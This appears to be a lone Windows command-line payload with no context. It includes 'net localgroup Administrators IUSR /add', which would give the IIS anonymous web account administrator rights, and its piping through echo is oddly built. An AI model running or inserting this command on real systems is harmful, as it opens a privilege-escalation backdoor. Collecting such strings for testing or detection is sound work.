echo net localgroup Administrators IUSR /add | cmd /c echo done
